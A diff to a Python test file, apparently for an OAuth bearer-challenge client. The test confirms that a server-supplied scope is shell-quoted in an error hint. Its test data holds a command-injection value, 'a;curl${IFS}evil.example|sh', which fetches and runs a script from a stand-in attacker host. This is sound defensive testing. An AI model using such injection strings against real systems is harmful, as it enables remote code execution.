@@ -124,7 +124,8 @@ def test_a_bridge_without_elicitation_is_explained() -> None:
 
 
 def test_a_scope_of_a_server_is_safe_to_copy_into_a_shell() -> None:
-    error = Forbidden(challenge='Bearer error="insufficient_scope", scope="read a;curl${IFS}evil.example|sh"')
+    challenge = 'Bearer error="insufficient_scope", scope="read a;curl${IFS}evil.example|sh"'
+    error = Forbidden(challenge=challenge + ', resource_metadata="https://x.example/.well-known"')
     translate_error(error)
     assert "--scope read --scope 'a;curl${IFS}evil.example|sh'" in str(error.hint)
 
